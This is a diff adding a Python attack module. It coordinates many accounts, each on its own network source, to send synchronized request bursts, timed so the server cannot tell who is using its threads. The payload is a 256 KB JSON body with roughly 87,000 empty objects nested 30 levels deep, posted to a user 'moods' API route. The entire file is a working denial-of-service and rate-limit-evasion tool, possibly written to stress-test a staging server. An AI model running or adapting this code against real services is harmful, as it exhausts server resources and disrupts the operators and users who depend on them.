@@ -1,0 +1,40 @@
+# Requests that several accounts send at the same moment, each from a network of its own.
+import threading
+from wire import Client
+
+# The nesting of the unknown member. A value may have 64 levels.
+DEPTH = 30
+
+
+def bursts(attack, requests):
+    """All accounts send a request at the same moment, each from a network of its own. When all have their responses, they pause for 0.12 s,
+    so that the server no longer knows who has used its threads, and send the next of the requests."""
+    barrier = threading.Barrier(len(attack.accounts))
+
+    def work(number):
+        client, turn = Client(attack.stage, attack.sources[number]), 0
+        while not attack.is_over:
+            barrier.wait()
+            try:
+                status = requests[turn % len(requests)](client, attack.accounts[number])
+            except OSError as error:
+                status = type(error).__name__
+            attack.count(str(status))
+            turn += 1
+            barrier.wait()
+            attack.wait(0.12)
+
+    for number in range(len(attack.accounts)):
+        threading.Thread(target=work, args=(number,), daemon=True).start()
+    attack.wait(0.2)
+    attack.ready()
+    attack.over.wait()
+
+
+def unknown_members(attack):
+    """Moods of 256 KB, the most that JSON may have: a member that the route does not know contains 87,000 empty objects."""
+    head, tail = b'{"mood":"calm","x":' + b"[" * DEPTH, b"]" * DEPTH + b"}"
+    body = head + b",".join([b"{}"] * ((262_000 - len(head) - len(tail)) // 3)) + tail
+    path = lambda person: f"/api/users/user/{person['id']}/moods/swift"
+    fields = {"Content-Type": "application/json"}
+    bursts(attack, [lambda client, person: client.request("POST", path(person), person["token"], body, fields)[0]])
